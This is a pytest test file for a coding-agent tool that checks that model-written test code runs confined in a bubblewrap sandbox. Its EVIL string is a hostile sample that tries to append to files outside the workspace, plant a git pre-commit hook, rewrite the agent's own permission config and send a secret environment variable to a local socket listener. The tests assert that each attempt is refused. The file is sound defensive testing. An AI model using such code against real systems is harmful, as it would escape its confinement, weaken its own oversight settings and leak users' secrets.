"""Checks run model-written code, so they run sandboxed: a test file the model writes (which the
leash allows) and the verify step then runs cannot write outside the workspace, touch .git or
tether's config, read the user's secrets from the environment, or reach the network."""

import os
import socket
import subprocess
import sys
import threading

import pytest

from tests.conftest import make_tree
from tether.autonomy.agent.loop import Agent
from tether.autonomy.guard import sandbox
from tether.autonomy.guard.leash import Leash
from tether.autonomy.guard.verify import SandboxUnavailable, VerifySettings

pytestmark = pytest.mark.skipif(sandbox.bubblewrap() is None, reason="needs bubblewrap (make installs it)")

EVIL = """import os, socket, pathlib

def test_evil():
    results = []
    for target in ({outside!r}, {home!r}, ".git/hooks/pre-commit", "tether.toml", ".git/config"):
        try:
            with open(target, "a") as f:
                f.write("pwned\\n")
            results.append("wrote " + target)
        except OSError as e:
            results.append("refused " + target)
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"leak " + os.environ.get("CLOUD_SECRET", "none").encode())
        results.append("connected")
    except OSError:
        results.append("no network")
    results.append("secret=" + os.environ.get("CLOUD_SECRET", "none"))
    pathlib.Path("evidence.txt").write_text("\\n".join(results))
"""


@pytest.fixture
def listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    got = []

    def accept():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                got.append(conn.recv(100))
            except OSError:
                continue

    stop = threading.Event()
    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], got
    stop.set()
    thread.join()
    server.close()


def test_a_test_file_the_model_writes_runs_confined_at_auto(make_grid, tmp_path, listener, monkeypatch):
    port, got = listener
    outside = tmp_path / "outside.txt"
    home = os.path.join(os.path.expanduser("~"), f"tether-sandbox-probe-{os.getpid()}")
    work = make_tree(
        tmp_path / "work",
        {"calc.py": "X = 1\n", "tether.toml": '[leash]\nlevel = "auto"\n', "tests/test_ok.py": "def test_ok():\n    pass\n"},
    )
    subprocess.run(["git", "init", "-q"], cwd=work, check=True)
    hooks = work / ".git" / "hooks"
    hooks.mkdir(exist_ok=True)
    monkeypatch.setenv("CLOUD_SECRET", "AKIA-very-secret")
    reply = f"tests/test_evil.py\n```python\n<<<<<<< SEARCH\n=======\n{EVIL.format(outside=str(outside), home=home, port=port)}>>>>>>> REPLACE\n```\n"
    grid = make_grid({"routes": {"default": {"models": ["s/m"]}}}, s=[reply, "DONE"])
    agent = Agent(
        grid,
        work,
        Leash(work, "auto"),
        verify=VerifySettings((f"{sys.executable} -m pytest -q -p no:cacheprovider",), timeout=60),
        edit_format="search-replace",
    )
    try:
        agent.run("add a test")
        evidence = (work / "evidence.txt").read_text().splitlines()  # the test ran, inside the workspace
        assert evidence[:5] == [
            f"refused {outside}",
            f"refused {home}",
            "refused .git/hooks/pre-commit",
            "refused tether.toml",
            "refused .git/config",
        ]
        assert "no network" in evidence and "secret=none" in evidence and got == []
        assert not outside.exists() and not os.path.exists(home) and not (hooks / "pre-commit").exists()
        assert "pwned" not in (work / "tether.toml").read_text() and "pwned" not in (work / ".git" / "config").read_text()
    finally:
        if os.path.exists(home):
            os.unlink(home)


def test_without_a_sandbox_auto_refuses_to_run_checks_unless_the_user_opts_out(make_grid, tmp_path, monkeypatch):
    work = make_tree(tmp_path / "work", {"calc.py": "X = 1\n"})
    monkeypatch.setattr(sandbox, "bubblewrap", lambda: None)
    grid = make_grid({"routes": {"default": {"models": ["s/m"]}}}, s=["DONE"])
    with pytest.raises(SandboxUnavailable, match="bubblewrap"):
        Agent(grid, work, Leash(work, "auto"), verify=VerifySettings(("pytest",)))
    assert Agent(grid, work, Leash(work, "auto"), verify=VerifySettings(("pytest",), sandbox="off")).confined is False
    assert Agent(grid, work, Leash(work, "approve"), verify=VerifySettings(("pytest",))).confined is False  # a person sees each change


def test_the_sandbox_environment_is_an_allow_list(monkeypatch):
    monkeypatch.setenv("DATABASE_URL", "postgres://u:pw@h/db")
    monkeypatch.setenv("LANG", "C.UTF-8")
    env = sandbox.environment("/tmp/x", ("DATABASE_URL",))
    assert env["HOME"] == env["TMPDIR"] == "/tmp/x" and env["LANG"] == "C.UTF-8" and env["DATABASE_URL"].endswith("/db")
    plain = sandbox.environment("/tmp/x")
    assert "DATABASE_URL" not in plain and set(plain) <= {*sandbox.ALLOWED_ENV, "HOME", "TMPDIR"}


def test_a_tool_installed_under_tmp_still_runs_in_the_sandbox(tmp_path):
    """The sandbox hides nothing the command needs: a virtualenv under /tmp (as in CI) works."""
    from tether.autonomy.guard.verify import run_command

    work = make_tree(tmp_path / "w", {"a.txt": "x\n"})
    result = run_command(f"{sys.executable} -c \"import os; print(os.environ['HOME'], open('a.txt').read())\"", work, VerifySettings())
    assert result.ok and "tether-run-" in result.output and "x" in result.output


def test_config_or_git_folders_a_check_creates_are_removed(tmp_path):
    from tether.autonomy.guard.verify import run_command

    work = make_tree(tmp_path / "w", {"sub/a.py": "x = 1\n"})
    code = "import os; os.makedirs('sub/.git/hooks'); open('sub/tether.toml', 'w').write('[leash]\\nlevel = \\'agent\\'\\n')"
    result = run_command(f'{sys.executable} -c "{code}"', work, VerifySettings())
    assert result.ok, result.output
    assert not (work / "sub" / "tether.toml").exists() and not (work / "sub" / ".git").exists()
    assert "sub/tether.toml" in result.output and (work / "sub" / "a.py").exists()


def test_without_a_sandbox_nothing_of_the_repositorys_runs_before_a_person_has_seen_a_change(make_grid, tmp_path, monkeypatch):
    monkeypatch.setattr(sandbox, "bubblewrap", lambda: None)  # macOS, or Linux without bubblewrap
    outside = tmp_path / "OUTSIDE"
    work = make_tree(tmp_path / "work", {"a.py": "x = 1\n", "check.py": f"open({str(outside)!r}, 'w').write('pwned')\n"})
    grid = make_grid({"routes": {"default": {"models": ["s/m"]}}}, s=["DONE", "DONE"])
    result = Agent(grid, work, Leash(work, "approve"), verify=VerifySettings((f"{sys.executable} check.py",))).run("rename a variable")
    assert not outside.exists() and result.status in ("unchanged", "refused")
